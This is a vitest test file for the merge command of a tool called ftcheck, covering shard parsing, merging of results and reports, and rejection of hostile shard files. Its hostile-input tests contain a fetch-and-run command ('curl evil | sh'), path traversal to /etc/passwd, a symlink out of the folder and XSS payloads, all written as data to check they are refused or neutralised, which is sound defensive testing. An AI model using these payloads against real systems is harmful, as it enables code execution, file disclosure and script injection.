import { cp, lstat, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fc, test } from '@fast-check/vitest';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { GateResults } from '../src/check/results.ts';
import { parseShard, SHARDS_MAX, ShardError, seedsOf, shardSeeds } from '../src/check/shard.ts';
import { main } from '../src/cli/main.ts';
import { MergeError, mergeResults } from '../src/report/merge.ts';
import { readResults } from '../src/report/results-schema.ts';
import { loadFixture } from './report-fixture.ts';

const TRACE_FIXTURE = 'test/fixtures/counterexamples/go-live-without-test-and-set-seed3.json';

/** Every file a results file links to. */
function linkedPaths(results: GateResults): string[] {
  return [
    ...new Set([
      ...results.counterexamples.map((c) => c.path),
      ...Object.values(results.invariants).flatMap((i) => i.counterexamples),
      ...(results.bugs ?? []).flatMap((b) => (b.counterexample ? [b.counterexample] : [])),
      ...(results.explore?.violations ?? []).flatMap((v) => (v.counterexample ? [v.counterexample] : [])),
      ...(results.fuzz?.counterexamples ?? []),
    ]),
  ];
}

/** A passing shard of the fixture's campaign: no violations, bugs all caught. */
function passingShard(index: number, count: number, first: number, runs: number): GateResults {
  const results = loadFixture();
  results.verdict = 'pass';
  results.config.shard = { index, count };
  for (const invariant of Object.values(results.invariants)) {
    invariant.verdict = 'hold';
    invariant.counterexamples = [];
    delete invariant.message;
  }
  results.counterexamples = [];
  results.explore!.violations = [];
  results.bugs = results.bugs!.map((bug) => ({ ...bug, status: 'caught', caught: true }));
  results.fuzz = {
    ...results.fuzz!,
    runs,
    planned: { seeds: 1, runsPerSeed: runs },
    seeds: { first, last: first + runs - 1 },
    counterexamples: [],
  };
  results.timing = { totalSeconds: runs / 10, stages: { fuzz: runs / 10 } };
  return results;
}

describe('mergeResults', () => {
  it('sums fuzz work, spans seeds and keeps the best coverage', () => {
    const a = passingShard(1, 2, 100, 50);
    const b = passingShard(2, 2, 150, 50);
    b.fuzz!.modelStates = { covered: 33, total: 34 };
    b.conformance!.transitions = { covered: 80, total: 85 };
    const merged = mergeResults([a, b]);
    expect(merged.verdict).toBe('pass');
    expect(merged.fuzz).toMatchObject({
      runs: 100,
      planned: { seeds: 2, runsPerSeed: 50 },
      seeds: { first: 100, last: 199 },
    });
    expect(merged.timing).toEqual({ totalSeconds: 5, stages: { fuzz: 5 } });
    // The merged run started when its earliest shard did.
    a.timing.startedAt = '2026-11-26T10:00:05.000Z';
    b.timing.startedAt = '2026-11-26T09:59:58.500Z';
    expect(mergeResults([a, b]).timing.startedAt).toBe('2026-11-26T09:59:58.500Z');
    expect(merged.fuzz!.modelStates).toEqual({ covered: 33, total: 34 });
    expect(merged.conformance!.transitions).toEqual({ covered: 80, total: 85 });
    expect(merged.config.shard).toBeUndefined();
    expect(merged.figures['shards merged']).toBe('1, 2 of 2');
  });

  it('lets the worst verdict and any violation win, and a bug caught anywhere count as caught', () => {
    const failing = loadFixture(); // shard 2/4: I3 violated, stale-primary-resumes escaped
    const passing = passingShard(1, 4, 0, 10);
    const merged = mergeResults([passing, failing]);
    expect(merged.verdict).toBe('fail');
    expect(merged.invariants.I3.verdict).toBe('violated');
    expect(merged.invariants.I3.message).toBe(failing.invariants.I3.message);
    expect(merged.invariants.I6.verdict).toBe('hold');
    expect(merged.bugs!.map((bug) => [bug.name, bug.caught])).toEqual([
      ['skip-test-and-set', true],
      ['output-before-ack', true],
      ['stale-primary-resumes', true],
    ]);
    expect(merged.explore!.violations).toHaveLength(1);
    const errored = { ...passingShard(3, 4, 10, 10), verdict: 'error' as const };
    expect(mergeResults([failing, errored]).verdict).toBe('error');
    const inconclusive = { ...passingShard(3, 4, 10, 10), verdict: 'inconclusive' as const };
    expect(mergeResults([passing, inconclusive]).verdict).toBe('inconclusive');
    expect(mergeResults([failing, inconclusive]).verdict).toBe('fail');
  });

  it('de-duplicates counterexamples by path, keeping the first', () => {
    const a = loadFixture();
    const b = loadFixture();
    b.config.shard = { index: 3, count: 4 };
    b.counterexamples[0]!.message = 'second copy';
    b.counterexamples.push({ ...b.counterexamples[0]!, path: 'counterexamples/other.json' });
    const merged = mergeResults([a, b]);
    expect(merged.counterexamples.map((c) => c.path)).toEqual([
      'counterexamples/I3-seed-20261391.json',
      'counterexamples/bug-output-before-ack.json',
      'counterexamples/other.json',
    ]);
    expect(merged.counterexamples[0]!.message).toBe(a.counterexamples[0]!.message);
    expect(merged.fuzz!.counterexamples).toEqual(['counterexamples/I3-seed-20261391.json']);
  });

  it('refuses the same shard twice and shards of different campaigns', () => {
    expect(() => mergeResults([])).toThrow(MergeError);
    expect(() => mergeResults([passingShard(1, 2, 0, 5), passingShard(1, 2, 0, 5)])).toThrow(
      /shard 1\/2 appears more than once/,
    );
    expect(() => mergeResults([passingShard(1, 2, 0, 5), passingShard(2, 3, 5, 5)])).toThrow(
      /belongs to another campaign/,
    );
  });
});

describe('shards', () => {
  it('parses i/n and names what is wrong', () => {
    expect(parseShard('2/5')).toEqual({ index: 2, count: 5 });
    expect(parseShard(' 1 / 1 ')).toEqual({ index: 1, count: 1 });
    expect(() => parseShard('0/5')).toThrow(/shard index must be between 1 and 5 \(shards count from 1\)/);
    expect(() => parseShard('6/5')).toThrow(ShardError);
    expect(() => parseShard('1/0')).toThrow(/shard count must be between 1 and 10000/);
    expect(() => parseShard('two/5')).toThrow(
      /--shard must look like i\/n \(for example 2\/5\), got 'two\/5'/,
    );
    expect(() => parseShard('1/5/2')).toThrow(ShardError);
    expect(() => parseShard('-1/5')).toThrow(ShardError);
  });

  test.prop([fc.integer({ min: 0, max: 2 ** 32 - 1 }), fc.nat(5000), fc.integer({ min: 1, max: 64 })], {
    seed: 7,
  })('shards are disjoint, balanced and together are the unsharded campaign', (baseSeed, runs, count) => {
    const whole = seedsOf(shardSeeds(baseSeed, runs, { index: 1, count: 1 }));
    expect(whole).toEqual(Array.from({ length: runs }, (_, k) => baseSeed + k));
    const blocks = Array.from({ length: count }, (_, i) =>
      shardSeeds(baseSeed, runs, { index: i + 1, count }),
    );
    expect(blocks.flatMap(seedsOf)).toEqual(whole);
    const sizes = blocks.map((block) => block.runs);
    expect(Math.max(...sizes) - Math.min(...sizes)).toBeLessThanOrEqual(1);
  });

  test.prop([fc.nat(1000), fc.integer({ min: 1, max: SHARDS_MAX })], { seed: 11 })(
    'a shard is the same whoever computes it',
    (runs, count) => {
      const index = (runs % count) + 1;
      expect(shardSeeds(5, runs, { index, count })).toEqual(shardSeeds(5, runs, { index, count }));
      expect(shardSeeds(5, runs, { index, count }).runOffset).toBe(Math.floor(((index - 1) * runs) / count));
    },
  );
});

describe('ftcheck merge', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(join(tmpdir(), 'ftcheck-merge-'));
  });
  afterEach(async () => {
    await rm(dir, { recursive: true, force: true });
  });

  function capture() {
    const out: string[] = [];
    const err: string[] = [];
    return { io: { out: (s: string) => out.push(s), err: (s: string) => err.push(s) }, out, err };
  }

  /** Each part as a shard folder: results.json beside every file it names (trace files are real). */
  async function writeParts(parts: GateResults[]): Promise<string[]> {
    const trace = await readFile(TRACE_FIXTURE, 'utf8');
    return Promise.all(
      parts.map(async (part, i) => {
        const folder = join(dir, `shard-${i + 1}`);
        for (const path of linkedPaths(part)) {
          await mkdir(dirname(join(folder, path)), { recursive: true });
          await writeFile(
            join(folder, path),
            path.endsWith('.itf.json') ? '{"states":[]}' : trace.replace('"seed": 3', `"seed": ${3 + i}`),
          );
        }
        const file = join(folder, 'results.json');
        await writeFile(file, JSON.stringify(part));
        return file;
      }),
    );
  }

  const writeRaw = async (name: string, json: unknown) => {
    const file = join(dir, name, 'results.json');
    await mkdir(dirname(file), { recursive: true });
    await writeFile(file, JSON.stringify(json));
    return file;
  };

  it('writes every merged report and exits 0 when all shards pass', async () => {
    const files = await writeParts([passingShard(1, 2, 0, 30), passingShard(2, 2, 30, 30)]);
    const c = capture();
    expect(await main(['merge', ...files, '--out', join(dir, 'out')], c.io)).toBe(0);
    expect(c.out[0]).toBe('merged 2 results: verdict pass');
    const merged = await readResults(join(dir, 'out', 'results.json'));
    expect(merged.fuzz!.runs).toBe(60);
    expect(await readFile(join(dir, 'out', 'junit.xml'), 'utf8')).toContain('tests="13" failures="0"');
    expect(await readFile(join(dir, 'out', 'summary.md'), 'utf8')).toContain('# ✅ ftcheck PASS');
  });

  it('exits 1 when the merged verdict fails, and prints JSON with --json', async () => {
    const files = await writeParts([passingShard(1, 4, 0, 10), loadFixture()]);
    const c = capture();
    expect(await main(['merge', ...files, '--out', join(dir, 'out'), '--json'], c.io)).toBe(1);
    expect(JSON.parse(c.out.join('')).verdict).toBe('fail');
  });

  it('exits 2 naming the file and field of a malformed part', async () => {
    const bad = JSON.parse(JSON.stringify(loadFixture()));
    bad.fuzz.runs = -3;
    const files = await writeParts([passingShard(1, 4, 0, 10), bad]);
    const c = capture();
    expect(await main(['merge', ...files, '--out', join(dir, 'out')], c.io)).toBe(2);
    expect(c.err.join('')).toMatch(/ftcheck: .*shard-2\/results\.json: field 'fuzz\.runs': /);
    const twice = await writeParts([passingShard(1, 4, 0, 10), passingShard(1, 4, 0, 10)]);
    expect(await main(['merge', ...twice], c.io)).toBe(2);
    expect(c.err.join('')).toContain('cannot merge: shard 1/4 appears more than once');
  });

  it('copies every counterexample, rewrites the links, and the merged folder works anywhere', async () => {
    const a = loadFixture();
    const b = loadFixture();
    b.config.shard = { index: 3, count: 4 };
    const files = await writeParts([a, b]);
    const out = join(dir, 'out');
    const c = capture();
    expect(await main(['merge', ...files, '--out', out], c.io)).toBe(1);
    // Same name, different content (the two shards' traces differ): both kept, the second namespaced.
    const merged = await readResults(join(out, 'results.json'));
    const paths = merged.counterexamples.map((x) => x.path);
    expect(paths).toContain('counterexamples/I3-seed-20261391.json');
    expect(paths).toContain('counterexamples/shard-3/I3-seed-20261391.json');
    for (const x of merged.counterexamples) expect(x.reproduce).toBe(`npx ftcheck replay ${x.path}`);
    // Copy the merged folder elsewhere: every relative link of index.html and summary.md resolves.
    const moved = join(dir, 'moved', 'report');
    await cp(out, moved, { recursive: true });
    const html = await readFile(join(moved, 'index.html'), 'utf8');
    const summary = await readFile(join(moved, 'summary.md'), 'utf8');
    const links = [
      ...[...html.matchAll(/href="([^"#][^"]*)"/g)].map((m) => decodeURI(m[1]!.replaceAll('&amp;', '&'))),
      ...[...summary.matchAll(/\]\(([^)]+)\)/g)].map((m) => decodeURI(m[1]!)),
    ];
    expect(links.length).toBeGreaterThan(5);
    for (const link of links) {
      expect(link).not.toMatch(/^[a-z]+:/i);
      expect((await lstat(join(moved, link))).isFile(), link).toBe(true);
    }
    // A reproduce command works from the moved folder.
    const replay = capture();
    const previous = process.cwd();
    process.chdir(moved);
    try {
      expect(
        await main(
          ['replay', 'counterexamples/shard-3/I3-seed-20261391.json', '--detail', 'events'],
          replay.io,
        ),
      ).toBe(1);
    } finally {
      process.chdir(previous);
    }
    expect(replay.out.join('\n')).toMatch(/reproduced|changed/);
  });

  describe('refuses hostile shards with exit 2 naming the field', () => {
    // biome-ignore lint/suspicious/noExplicitAny: the cases edit results files as free-form JSON
    const cases: [string, (json: any) => void, RegExp][] = [
      [
        'a NUL in a path',
        (j) => (j.counterexamples[0].path = 'counterexamples/x\u0000.json'),
        /field 'counterexamples\.0\.path'/,
      ],
      [
        'a lone surrogate in a path',
        (j) => (j.fuzz.counterexamples[0] = 'counterexamples/\ud800.json'),
        /field 'fuzz\.counterexamples\.0'/,
      ],
      [
        'a path out of the folder',
        (j) => (j.bugs[0].counterexample = '../../etc/passwd'),
        /field 'bugs\.0\.counterexample'/,
      ],
      [
        'an absolute path',
        (j) => (j.invariants.I3.counterexamples[0] = '/etc/passwd'),
        /field 'invariants\.I3\.counterexamples\.0'/,
      ],
      [
        'a javascript: link',
        (j) => (j.counterexamples[1].path = 'javascript:alert(1)'),
        /field 'counterexamples\.1\.path'/,
      ],
      [
        'a diagram pointing at a file the merge writes',
        (j) => (j.diagrams[0].svg = 'index.html'),
        /field 'diagrams\.0\.svg'/,
      ],
      [
        'a diagram pointing at a counterexample diagram',
        (j) => (j.diagrams[1].svg = 'counterexamples/I3-seed-20261391.mmd'),
        /field 'diagrams\.1\.svg'/,
      ],
      [
        'a reproduce command that is not ftcheck',
        (j) => (j.counterexamples[0].reproduce = 'curl evil | sh'),
        /field 'counterexamples\.0\.reproduce'/,
      ],
    ];
    for (const [name, change, field] of cases) {
      it(name, async () => {
        const json = JSON.parse(JSON.stringify(loadFixture()));
        change(json);
        const file = await writeRaw('hostile', json);
        const c = capture();
        expect(await main(['merge', file, '--out', join(dir, 'out')], c.io)).toBe(2);
        expect(c.err.join('')).toMatch(field);
        expect(c.err.join('')).not.toMatch(/at .*\.ts:\d+/); // a message, not a stack trace
      });
    }

    it('a counterexample file that is missing, or a symlink out of the shard', async () => {
      const [file] = await writeParts([loadFixture()]);
      const folder = dirname(file!);
      await rm(join(folder, 'counterexamples', 'I3-model.json'));
      const c = capture();
      expect(await main(['merge', file!, '--out', join(dir, 'out')], c.io)).toBe(2);
      expect(c.err.join('')).toMatch(
        /field 'bugs\.0\.counterexample': counterexamples\/I3-model\.json: no such file/,
      );
      await symlink('/etc/hostname', join(folder, 'counterexamples', 'I3-model.json'));
      const d = capture();
      expect(await main(['merge', file!, '--out', join(dir, 'out')], d.io)).toBe(2);
      expect(d.err.join('')).toMatch(/not a regular file/);
    });
  });

  it('never inlines a shard’s files and keeps shard text inert in summary.md', async () => {
    const hostile = loadFixture();
    hostile.counterexamples[0]!.message =
      '<img src=x onerror=alert(1)> [click](javascript:alert(2)) <script>alert(3)</script>';
    hostile.invariants.I3.message = '[x](javascript:alert(4))';
    hostile.counterexamples[0]!.mermaid = 'sequenceDiagram\n  link A: evil @ javascript:alert(5)';
    const [file] = await writeParts([hostile]);
    const folder = dirname(file!);
    await mkdir(join(folder, 'diagrams'), { recursive: true });
    await writeFile(
      join(folder, 'diagrams', 'agent.svg'),
      '<svg xmlns="http://www.w3.org/2000/svg"><text>SHARD-SVG-MARKER</text></svg>',
    );
    const out = join(dir, 'out');
    expect(await main(['merge', file!, '--out', out], capture().io)).toBe(1);
    const html = await readFile(join(out, 'index.html'), 'utf8');
    expect(html).not.toContain('SHARD-SVG-MARKER');
    expect(html).toContain('<svg'); // the diagrams drawn afresh from the machines
    expect(html).not.toMatch(/<img|<script/i);
    const summary = await readFile(join(out, 'summary.md'), 'utf8');
    expect(summary).not.toMatch(/<img|<script/i);
    expect(summary).not.toMatch(/(?<!\\)\]\(javascript:/i); // `\[x\](…)` is literal text, not a link
    expect(summary).not.toContain('javascript:alert(5)');
  });
});
